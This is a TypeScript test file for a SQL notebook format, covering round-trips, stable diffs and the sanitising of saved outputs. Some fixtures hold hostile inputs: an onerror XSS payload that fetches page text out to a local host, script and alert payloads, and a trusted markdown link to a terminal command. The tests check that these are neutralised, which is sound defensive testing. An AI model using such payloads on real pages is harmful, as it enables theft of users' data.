import * as assert from 'node:assert/strict';
import { parseNotebook, serializeNotebook, stableJson, type LabNotebook } from '../../src/core/notebook/format';
import { labNotebook, labNotebookText } from '../../src/core/notebook/labNotebook';
import { CHART_MIME, TABLE_MIME } from '../../src/core/notebook/execute';

const OUTPUT = { items: [{ mime: 'text/plain', text: 'country  totalSales\nUSA  1' }], metadata: { rows: 1 } };

function sample(saveOutputs: boolean): LabNotebook {
  return {
    metadata: saveOutputs ? { saveOutputs: true } : {},
    cells: [
      { kind: 'md', source: '# Title\n\nSome *text*.' },
      { kind: 'params', source: '{\n  "country": "USA",\n  "n": 5\n}' },
      { kind: 'sql', source: 'select 1 as one -- a comment\n', metadata: { z: 1, a: { y: 2, b: 3 } }, outputs: [OUTPUT] },
      { kind: 'sql', source: '' },
      { kind: 'sql', source: '-- %% sql looks like a marker\n-- %%% so does this\n-- lifecycle-lab notebook v1\nselect 2' },
    ],
  };
}

suite('notebook file format', () => {
  test('round trip: every cell kind, text, metadata, empty cells and marker-like lines come back as written', () => {
    const notebook = sample(false);
    const parsed = parseNotebook(serializeNotebook(notebook));
    assert.deepEqual(parsed.metadata, {});
    assert.deepEqual(parsed.cells.map((c) => [c.kind, c.source, c.metadata]), notebook.cells.map((c) => [c.kind, c.source, c.metadata]));
  });

  test('outputs are not saved unless the notebook asks (saveOutputs), and then come back', () => {
    const without = serializeNotebook(sample(false));
    assert.ok(!without.includes('output'), without);
    assert.ok(parseNotebook(without).cells.every((c) => !c.outputs));
    const withOutputs = parseNotebook(serializeNotebook(sample(true)));
    assert.deepEqual(withOutputs.metadata, { saveOutputs: true });
    assert.deepEqual(withOutputs.cells[2].outputs, [OUTPUT]);
    assert.equal(withOutputs.cells[2].source, 'select 1 as one -- a comment\n');
  });

  test('stable diff: metadata keys sorted, same bytes after a second save, one cell edit changes one line', () => {
    const text = serializeNotebook(sample(false));
    assert.ok(text.includes('-- %% sql {"a":{"b":3,"y":2},"z":1}\n'), text);
    assert.equal(serializeNotebook(parseNotebook(text)), text);
    const edited = parseNotebook(text);
    edited.cells[2].source = 'select 42 as one -- a comment\n';
    const before = text.split('\n');
    const after = serializeNotebook(edited).split('\n');
    assert.equal(after.length, before.length);
    assert.deepEqual(after.map((l, i) => (l === before[i] ? null : i)).filter((i) => i !== null).length, 1);
    assert.equal(stableJson({ b: 1, a: [{ d: 1, c: 2 }] }), '{"a":[{"c":2,"d":1}],"b":1}');
  });

  test('a plain .sql text opens as one SQL cell; a bad marker names its line', () => {
    assert.deepEqual(parseNotebook('select 1;\n').cells, [{ kind: 'sql', source: 'select 1;' }]);
    assert.deepEqual(parseNotebook('').cells, []);
    assert.throws(() => parseNotebook('-- lifecycle-lab notebook v1\n-- %% python\nx = 1\n'), /Line 2: unknown cell kind "python"/);
    assert.throws(() => parseNotebook('-- %% sql {not json}\n'), /Line 1: the metadata is not valid JSON/);
    assert.throws(() => parseNotebook('-- %% sql [1]\n'), /Line 1: the metadata must be a JSON object/);
  });

  test('Windows line endings read like Unix ones', () => {
    assert.deepEqual(parseNotebook('-- %% md\r\n# A\r\n-- %% sql\r\nselect 1\r\n').cells.map((c) => c.source), ['# A', 'select 1']);
  });

  test('the lab notebook round-trips and has its questions and parameters cell', () => {
    const text = labNotebookText();
    assert.deepEqual(parseNotebook(text), labNotebook());
    const kinds = labNotebook().cells.map((c) => c.kind);
    assert.ok(kinds.includes('params') && kinds.includes('md'));
    assert.deepEqual(labNotebook().cells.filter((c) => c.kind === 'sql').map((c) => c.metadata?.question),
      ['tableRows', 'tableColumns', 'salesByCountry', 'salesByProductLine', 'monthlySales', 'topProducts']);
  });

  test('saved outputs come back only as the lab writes them: other types (HTML with script) as text, said once; table JSON rebuilt field by field', () => {
    const table = {
      columns: [{ name: 'n', type: 'INTEGER' }], rows: [[1], [2]], totalRows: 2, truncated: false, stats: { elapsedMs: 3 }, engine: 'duckdb', params: {},
      resultId: 'r1', html: '<img src=x onerror="fetch(`http://127.0.0.1:8000/`+document.body.innerText)">',
    };
    const html = '<img src=x onerror="fetch(`http://127.0.0.1:8000/?`+document.body.innerText)">';
    const text = [
      '-- lifecycle-lab notebook v1 {"saveOutputs":true}',
      '-- %% sql',
      'select 1',
      `-- %% output ${JSON.stringify({ items: [{ mime: 'text/html', text: html }] })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: 'application/javascript', text: 'alert(1)' }, { mime: 'text/plain', text: 'one' }] })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: TABLE_MIME, text: JSON.stringify(table) }, { mime: 'text/plain', text: 'n\n1\n2' }], metadata: { kind: 'table' } })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: CHART_MIME, text: '{"columns": 5}' }] })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: 'application/vnd.code.notebook.error', text: JSON.stringify({ name: 'Query failed', message: 'no such table' }) }] })}`,
      `-- %% output ${JSON.stringify({ items: [{ mime: 'text/markdown', text: '[x](command:workbench.action.terminal.new)' }], metadata: { trusted: true } })}`,
      '',
    ].join('\n');
    const parsed = parseNotebook(text);
    const outputs = parsed.cells[0].outputs ?? [];
    const allowed = new Set([TABLE_MIME, CHART_MIME, 'text/plain']);
    const mimes = outputs.flatMap((o) => o.items.map((i) => i.mime));
    assert.ok(mimes.every((m) => allowed.has(m)), `only the lab's own output types come back: ${mimes.join(', ')}`);
    assert.equal(outputs[0].items[0].text, html, 'the HTML is shown as its text, never as markup');
    assert.deepEqual(outputs[1].items, [{ mime: 'text/plain', text: 'one' }], 'an output with a text of its own keeps that');
    const rebuilt = JSON.parse(outputs[2].items[0].text) as Record<string, unknown>;
    assert.deepEqual(Object.keys(rebuilt).sort(), ['columns', 'engine', 'params', 'rows', 'stats', 'totalRows', 'truncated']);
    assert.deepEqual(rebuilt.rows, [[1], [2]]);
    assert.equal(outputs[3].items[0].mime, 'text/plain', 'a chart payload that is not a lab result is shown as text');
    assert.match(outputs[4].items[0].text, /Query failed: no such table/);
    assert.deepEqual(outputs[5].items, [{ mime: 'text/plain', text: '[x](command:workbench.action.terminal.new)' }]);
    assert.deepEqual(parsed.setAside, ['text/html', 'application/javascript', CHART_MIME, 'application/vnd.code.notebook.error', 'text/markdown'],
      'the notice names each type set aside, once');
    assert.deepEqual(parseNotebook(serializeNotebook(sample(true))).setAside, undefined, 'the lab\'s own plain outputs need no notice');
  });

  test('outputs the lab saved itself are read back through the same gate (no trusted marker gets around it)', () => {
    const notebook = sample(true);
    notebook.cells[2].outputs = [{ items: [{ mime: 'text/html', text: '<script>alert(1)</script>' }], metadata: { kind: 'table', trusted: true } }];
    const back = parseNotebook(serializeNotebook(notebook));
    assert.deepEqual(back.cells[2].outputs?.[0].items, [{ mime: 'text/plain', text: '<script>alert(1)</script>' }]);
    assert.deepEqual(back.setAside, ['text/html']);
  });
});
